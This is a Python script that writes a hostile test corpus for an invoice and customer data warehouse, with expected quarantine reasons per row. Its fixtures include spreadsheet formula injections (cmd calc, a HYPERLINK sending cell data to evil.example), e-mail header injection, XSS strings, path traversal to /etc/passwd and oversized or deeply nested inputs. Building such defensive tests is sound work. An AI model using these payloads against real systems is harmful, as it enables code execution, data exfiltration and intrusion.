"""Writes the hostile landing corpus (issue 10 item 3) into tests/reliability/corpus/.

    .venv/bin/python tests/reliability/make_corpus.py        # rewrite the corpus

Every file follows the landing contract's names (customers*.csv, documents*.jsonl,
documents*.parquet) so the real nightly picks it up. `expected.json` says, per file,
which line must be quarantined with which reason and how many rows must be ingested;
tests/reliability/test_hostile_ingest.py holds the warehouse to it. The corpus is
generated rather than hand-written because several cases are bytes no editor keeps
(a BOM, CRLF, invalid UTF-8, a 1 MB field, a lone surrogate escape).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

CORPUS = Path(__file__).with_name("corpus")
FIELDS = (
    "issuer", "customer_number", "name", "enterprise_number", "street", "postal_code",
    "city", "country", "language", "contract_start", "contact_email",
    "contact_first_name", "contact_last_name", "contact_language", "channel_choice",
)  # fmt: skip
MEGABYTE = "M" * 1_000_000
# Names and contact names that must survive into manifests, e-mails, PDFs and UBL
# without being interpreted there (spreadsheet formulas, header injection, HTML).
HOSTILE_NAMES = {
    "0000001": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "0000002": "+32 SUM(A1:A9)",
    "0000003": "-2+3+cmd|' /C calc'!A0",
    "0000004": "@SUM(1+1)*cmd|' /C calc'!A0",
    "0000005": "\tTabbed =1+1 [/bold] [link=http://evil.example]rich[/link]",
    "0000006": 'Evil\r\nBV,"injected",row',
    "0000010": "<script>alert('name')</script> & Co",
    "0000011": "Straße <b>bold</b> \u2028 Ltd",
    "0000012": 'Peppol <Evil> & ]]> "Co"',
}
INJECTED_HEADER = "Bcc: victim@evil.example"


def customer(number: str, **changes) -> dict:
    row = {
        "issuer": "DL5",
        "customer_number": number,
        "name": HOSTILE_NAMES.get(number, f"Customer {number}"),
        "enterprise_number": "",
        "street": "Kerkstraat 1",
        "postal_code": "9000",
        "city": "Gent",
        "country": "BE",
        "language": "nl",
        "contract_start": "2024-01-01",
        "contact_email": f"c{number}@example.be",
        "contact_first_name": "An",
        "contact_last_name": "Peeters",
        "contact_language": "nl",
        "channel_choice": "paper",
    }
    return row | changes


GOOD_CUSTOMERS = [
    customer("0000001"),
    customer("0000002"),
    customer("0000003"),
    customer("0000004"),
    customer("0000005"),
    customer("0000006"),
    customer(
        "0000010",
        channel_choice="portal",
        contact_email="eve@example.be",
        contact_first_name="<img src=x onerror=alert(1)>",
        contact_last_name=f"Smith\r\n{INJECTED_HEADER}",
    ),
    customer(
        "0000011",
        channel_choice="portal",
        contact_email="o'brien+tag@example.be",
        contact_first_name="=cmd|' /C calc'!A0",
        contact_last_name="Ünïcødé",
        language="fr",
        contact_language="fr",
    ),
    customer(
        "0000012",
        enterprise_number="0418711287",
        channel_choice="portal",
        contact_email="peppol@example.be",
    ),  # fmt: skip
]
BAD_CUSTOMERS = [
    (customer("0000020", issuer="DL9"), "unknown_issuer"),
    (customer("0000021", contact_email=f"x@example.be\r\n{INJECTED_HEADER}"), "bad_email"),
    (customer("0000022", contact_email="<script>@example.be"), "bad_email"),
    (customer("0000023", contact_email="a@example.be>, <victim@evil.example"), "bad_email"),
    (customer("0000024", contract_start="2026-02-30"), "bad_date"),
    (customer("0000025", name=MEGABYTE), "field_too_long"),
    (customer("0000026", enterprise_number="0418711288"), "bad_enterprise_number"),
    (customer("0000027", language="xx"), "bad_language"),
    (customer("../../0001"), "bad_customer_number"),
    (customer("0000028", country="BELGIUM"), "bad_country"),
    (customer("0000029", channel_choice="fax"), "bad_channel_choice"),
    (customer("0000030", name="  "), "missing_field"),
    (customer("0000031", contract_start=20240101), "bad_date"),
    (customer("0000033", contact_last_name="Smith\x00\x1b[31m"), "bad_character"),
]


def csv_text(row: dict) -> str:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([row[f] for f in FIELDS])
    return buffer.getvalue()


def write_customers(out: Path, expected: dict) -> None:
    """BOM, CRLF, quoted CR/LF inside fields; lines counted as csv counts them."""
    chunks = ["\ufeff" + ",".join(FIELDS) + "\r\n"]
    quarantined: dict[str, str] = {}
    line = 1
    rows = [(r, None) for r in GOOD_CUSTOMERS] + BAD_CUSTOMERS
    for row, reason in rows:
        text = csv_text(row)
        line += text.count("\n")  # csv.reader.line_num: the row's last physical line
        chunks.append(text)
        if reason:
            quarantined[str(line)] = reason
    data = "".join(chunks).encode()
    # Invalid UTF-8 in one row (latin-1 bytes), and a row with too few columns.
    bad_bytes = csv_text(customer("0000032", city="G\xe9nt")).encode("latin-1")
    data += bad_bytes + b"DL5,0000033,Short row\r\n"
    quarantined[str(line + 1)] = "bad_encoding"
    quarantined[str(line + 2)] = "bad_columns"
    (out / "customers_hostile.csv").write_bytes(data)
    expected["customers_hostile.csv"] = {"ingested": len(GOOD_CUSTOMERS),
                                         "quarantined": quarantined}  # fmt: skip


def document(number: str, customer_number: str, **changes) -> dict:
    row = {
        "issuer": "DL5",
        "document_number": number,
        "document_type": "invoice",
        "issue_date": "2026-11-26",
        "due_date": "2026-12-26",
        "customer_number": customer_number,
        "contract_number": "C-778812",
        "currency": "EUR",
        "lines": [
            {
                "description": 'Lease <b>VW</b> & "ID.4" =1+1',
                "quantity": "1",
                "unit_price": "612.40",
                "vat_rate": "21",
            }
        ],  # fmt: skip
        "total_excl_vat": "612.40",
        "total_vat": "128.60",
        "total_incl_vat": "741.00",
        "payment_reference": "+++000/0012/34526+++",
        "credited_document_number": None,
    }
    return row | changes


def line_with(**changes) -> list[dict]:
    return [document("x", "x")["lines"][0] | changes]


GOOD_DOCUMENTS = [
    document(f"H-2026-{n}", n)
    for n in ("0000001", "0000002", "0000003", "0000004", "0000005", "0000006",
              "0000010", "0000011", "0000012")
]  # fmt: skip
DEEP = b"[" * 100_000 + b"]" * 100_000


def bad_documents() -> list[tuple[object, str | None]]:
    """(a row or raw bytes, the expected quarantine reason or None for a no-op)."""
    d = document
    return [
        (GOOD_DOCUMENTS[0], None),  # identical re-delivery in the same file: a no-op
        (d("H-2026-0000001", "0000001", contract_number="C-OTHER"), "conflict"),
        (d("../../../etc/passwd", "0000001"), "unsafe_document_number"),
        (d("..", "0000001"), "unsafe_document_number"),
        (d("a/b", "0000001"), "unsafe_document_number"),
        (d("/abs", "0000001"), "unsafe_document_number"),
        (d("C:\\win", "0000001"), "unsafe_document_number"),
        (d("N-1\r\nX-Header: 1", "0000001"), "unsafe_document_number"),
        (d("=1+1", "0000001"), "unsafe_document_number"),
        (d("F-1", "0000001", total_incl_vat=741.0), "float_amount"),
        (d("F-2", "0000001", total_vat=128.6), "float_amount"),
        (d("F-3", "0000001", lines=line_with(quantity=1)), "float_amount"),
        (d("N-2", "0000001", total_excl_vat="-612.40"), "bad_amount"),
        (d("N-3", "0000001", total_incl_vat="50000000.00"), "bad_amount"),
        (d("N-4", "0000001", total_incl_vat="1e999999999"), "bad_decimal"),
        (d("N-5", "0000001", lines=line_with(quantity="1e400000000")), "bad_decimal"),
        (d("N-6", "0000001", total_vat="NaN"), "bad_decimal"),
        (d("N-7", "0000001", total_vat="Infinity"), "bad_decimal"),
        (d("N-8", "0000001", total_vat="128.601"), "bad_decimal"),
        (d("N-9", "0000001", lines=line_with(vat_rate="121")), "bad_amount"),
        (d("T-1", "0000001", total_incl_vat="741.01"), "BR-CO-15"),
        (d("T-2", "0000001", total_excl_vat="600.00", total_incl_vat="728.60"), "BR-CO-13"),
        (d("U-1", "0000001", issuer="DL9"), "unknown_issuer"),
        (d("U-2", "0999999"), "unknown_customer"),
        (d("U-3", "0000020"), "unknown_customer"),  # its customer row was quarantined
        (d("D-1", "0000001", issue_date="2026-02-30"), "bad_date"),
        (d("D-2", "0000001", issue_date="26/11/2026"), "bad_date"),
        (d("D-3", "0000001", issue_date="20261126"), "bad_date"),
        (d("D-4", "0000001", due_date="2026-11-25"), "bad_date"),
        (d("W-1", "0000001", issuer=5), "bad_type"),
        (d("W-2", "0000001", document_number=["N"]), "bad_type"),
        (d("W-3", "0000001", lines="one line"), "bad_lines"),
        (d("W-4", "0000001", lines=["not an object"]), "bad_lines"),
        (d("W-5", "0000001", document_type="proforma"), "bad_document_type"),
        (d("W-6", "0000001", currency="USD"), "bad_currency"),
        (d("W-7", "12a"), "bad_customer_number"),
        (d("W-8", "0000001", payment_reference="+++000/0012/34527+++"), "bad_payment_reference"),
        (d("W-9", "0000001", document_type="credit_note"), "policy_credit_note_reference"),
        ({k: v for k, v in d("W-10", "0000001").items() if k != "lines"}, "missing_field"),
        (d("L-1", "0000001", lines=line_with(description=MEGABYTE)), "field_too_long"),
        (d("L-2", "0000001", contract_number="C" * 300), "field_too_long"),
        (json.dumps(d("E-1", "0000001", contract_number="\ud800")).encode(), "bad_encoding"),
        (
            json.dumps(d("E-2", "0000001")).encode().replace(b"C-778812", b"C-\xff\xfe"),
            "bad_encoding",
        ),
        (b"{not json", "bad_json"),
        (b"[1, 2, 3]", "bad_json"),
        (b"null", "bad_json"),
        (DEEP, "bad_json"),
    ]


def write_documents(out: Path, expected: dict) -> None:
    """BOM on the first line, CRLF line ends, blank lines (skipped, not counted)."""
    quarantined: dict[str, str] = {}
    lines: list[bytes] = []
    for row in GOOD_DOCUMENTS:
        lines.append(json.dumps(row).encode())
    lines.append(b"")  # a blank line is not a row
    for row, reason in bad_documents():
        lines.append(row if isinstance(row, bytes) else json.dumps(row).encode())
        if reason:
            quarantined[str(len(lines))] = reason
    data = b"\xef\xbb\xbf" + b"\r\n".join(lines) + b"\r\n"
    (out / "documents_hostile.jsonl").write_bytes(data)
    expected["documents_hostile.jsonl"] = {"ingested": len(GOOD_DOCUMENTS),
                                           "quarantined": quarantined}  # fmt: skip


def write_parquet(out: Path, expected: dict) -> None:
    """Wrong types in a typed file: float amounts and an integer issue date."""
    rows = [document("P-1", "0000001"), document("P-2", "0000002")]
    table = pa.Table.from_pylist([r | {"total_incl_vat": float(r["total_incl_vat"])} for r in rows])
    pq.write_table(table, out / "documents_types.parquet")
    expected["documents_types.parquet"] = {
        "ingested": 0, "quarantined": {"1": "float_amount", "2": "float_amount"}
    }  # fmt: skip
    (out / "documents_corrupt.parquet").write_bytes(b"PAR1" + b"\x00garbage" * 50 + b"PAR1")
    expected["documents_corrupt.parquet"] = {"ingested": 0,
                                             "quarantined": {"0": "unreadable_file"}}  # fmt: skip


def write_header_cases(out: Path, expected: dict) -> None:
    (out / "customers_noheader.csv").write_text("=cmd,name\r\nDL5,x\r\n", encoding="utf-8")
    expected["customers_noheader.csv"] = {"ingested": 0,
                                          "quarantined": {"0": "unreadable_file"}}  # fmt: skip


def make_corpus(out: Path = CORPUS) -> dict:
    """Write every corpus file and expected.json into `out`; returns the expectations."""
    out.mkdir(parents=True, exist_ok=True)
    expected: dict = {}
    write_customers(out, expected)
    write_documents(out, expected)
    write_parquet(out, expected)
    write_header_cases(out, expected)
    (out / "expected.json").write_text(json.dumps(expected, indent=1, sort_keys=True) + "\n")
    return expected


if __name__ == "__main__":
    cases = make_corpus()
    total = sum(len(v["quarantined"]) + v["ingested"] for v in cases.values())
    print(f"{len(cases)} files, {total} cases in {CORPUS}")
